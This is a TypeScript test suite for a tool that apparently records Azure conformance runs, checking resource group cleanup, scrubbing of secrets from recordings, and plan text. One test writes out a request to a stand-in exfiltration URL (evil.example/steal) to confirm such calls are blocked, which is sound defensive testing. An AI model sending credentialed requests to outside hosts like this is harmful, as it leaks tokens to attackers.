import fc from "fast-check";
import { describe, expect, test } from "vitest";
import type { Step } from "../step.ts";
import { remains, Replacements } from "../replace.ts";
import { planText } from "../plan.ts";
import { STEPS } from "../steps.ts";
import { bench, record, SUBSCRIPTION } from "./support.ts";

function step(run: Step["run"]): Step {
  return {
    name: "made up",
    does: "fails",
    settles: [],
    minutes: 1,
    cost: 0,
    run,
  };
}

function groups(sim: ReturnType<typeof bench>["sim"]): number {
  return sim.resources("Microsoft.Resources/resourceGroups").length;
}

describe("the resource group", () => {
  test("is made first, and deleted after the last step", async () => {
    const scene = bench();
    await record(scene);
    expect(scene.sent.find(({ method }) => method === "PUT")?.url).toMatch(
      /\/resourceGroups\/rg-conformance-test\?/,
    );
    expect(scene.log.at(-1)).toBe("Resource group rg-conformance-test is deleted.");
    expect(scene.sim.resources()).toEqual([]);
  });

  test("is deleted when a step fails, and the other steps still run", async () => {
    const ran: string[] = [];
    const scene = bench({
      steps: [
        step(() => Promise.reject(new Error("out of luck"))),
        { ...step(() => Promise.resolve()), name: "second" },
      ].map((one) => ({
        ...one,
        run: (kit) => {
          ran.push(one.name);
          return one.run(kit);
        },
      })),
    });
    const { unfinished } = await record(scene);
    expect(ran).toEqual(["made up", "second"]);
    expect(unfinished).toEqual({ "made up": "out of luck" });
    expect(groups(scene.sim)).toBe(0);
  });

  test("is deleted when the run is interrupted in the middle of a wait", async () => {
    const interruption = new AbortController();
    const ran: string[] = [];
    const scene = bench({
      signal: interruption.signal,
      steps: [
        step(async (kit) => {
          await kit.done("PUT new table", "PUT", kit.in("Microsoft.Network/routeTables/rt"), {
            body: { location: "westeurope" },
          });
          interruption.abort(new Error("interrupted"));
          await kit.wait(3_600_000);
        }),
        step(() => {
          ran.push("second");
          return Promise.resolve();
        }),
      ],
    });
    await expect(record(scene)).rejects.toThrow("interrupted");
    expect(ran).toEqual([]);
    expect(scene.sim.resources()).toEqual([]);
  });

  test("is deleted although a step left a lock in it", async () => {
    const scene = bench({
      steps: [
        step(async (kit) => {
          const table = kit.in("Microsoft.Network/routeTables/rt");
          await kit.done("PUT", "PUT", table, { body: { location: "westeurope" } });
          const lock = `${table}/providers/Microsoft.Authorization/locks/mine?api-version=2020-05-01`;
          await kit.call("lock", "PUT", lock, { body: { properties: { level: "ReadOnly" } } });
          throw new Error("left");
        }),
      ],
    });
    await record(scene);
    expect(scene.sim.resources()).toEqual([]);
  });

  test("that is there already is left alone", async () => {
    const scene = bench();
    scene.sim.seed(`/subscriptions/${SUBSCRIPTION}/resourceGroups/rg-conformance-test`, {
      location: "westeurope",
    });
    await expect(record(scene)).rejects.toThrow("reading it answers 200 instead of 404");
    expect(groups(scene.sim)).toBe(1);
  });
});

test("the token goes nowhere but to the endpoint", async () => {
  const scene = bench({
    steps: [
      step(async (kit) => {
        await kit.call("elsewhere", "GET", "https://evil.example/steal");
      }),
    ],
  });
  const { unfinished } = await record(scene);
  expect(unfinished?.["made up"]).toContain("https://evil.example");
  expect(scene.sent.map(({ url }) => new URL(url).host)).not.toContain("evil.example");
});

describe("nothing of the owner's is in a recording", () => {
  const TENANT = "7e4a4700-0000-4000-8000-000000000001";
  const CORRELATION = "c0ffee00-0000-4000-8000-000000000002";
  const TOKEN = `eyJhbGciOiJub25lIn0.${Buffer.from("planted").toString("base64url")}.c2lnbmF0dXJl`;
  const planted = [
    SUBSCRIPTION,
    TENANT,
    CORRELATION,
    TOKEN,
    "eva.owner@contoso.example",
    "rg-conformance-test",
    "20.50.2.1",
  ];

  test("subscription, tenant, names, tokens, signatures and correlation ids that were planted in answers", async () => {
    const plain = bench();
    const scene = bench({
      names: { [TENANT]: "<tid>" },
      ports: {
        ...plain.job.ports,
        send: async (request, signal) => {
          const { status, headers, text } = await plain.job.ports.send(request, signal);
          const body: unknown = text === "" ? {} : JSON.parse(text);
          return {
            status,
            headers: { ...headers, "x-ms-correlation-request-id": CORRELATION, etag: `W/"${CORRELATION}"` },
            text: JSON.stringify({
              ...(body as object),
              planted,
              [`/subscriptions/${SUBSCRIPTION}`]: planted.join(" "),
            }),
          };
        },
      },
      steps: STEPS.filter(({ name }) => name === "writes"),
    });
    const text = JSON.stringify(await plain.clock.runUntil(record({ ...scene, clock: plain.clock })));
    for (const secret of planted) expect(text.toLowerCase()).not.toContain(secret.toLowerCase());
    expect(text).not.toMatch(/[?&](t|c|s|h|sig)=(?!<signature>)/);
    expect(text).toContain("<tid>");
  });

  test("equal ids stay equal, different ones different", () => {
    fc.assert(
      fc.property(fc.array(fc.uuid(), { minLength: 2, maxLength: 8 }), (ids) => {
        const replaced = new Replacements({}).text(ids.join(" ")).split(" ");
        expect(remains(replaced.join(" "), {})).toEqual([]);
        expect(new Set(replaced).size).toBe(new Set(ids.map((id) => id.toLowerCase())).size);
        for (const [i, id] of ids.entries()) expect(replaced[i]).toBe(replaced[ids.indexOf(id)]);
      }),
    );
  });

  test("a recording with an id that could not be replaced is not made", () => {
    expect(remains(`x ${SUBSCRIPTION} y`, {})).toEqual([SUBSCRIPTION]);
    expect(remains("?t=1&h=<signature>", {})).toEqual(["?t=1"]);
    expect(remains("RG-Mine", { "rg-mine": "<group>" })).toEqual(["rg-mine"]);
  });
});

test("the plan says what runs, how long, and for how much", () => {
  const text = planText(STEPS);
  for (const { name, minutes } of STEPS) expect(text).toContain(`${name} (${minutes} min, `);
  expect(text).toMatch(/In all about \d+ minutes and at most \d+\.\d\d USD/);
});
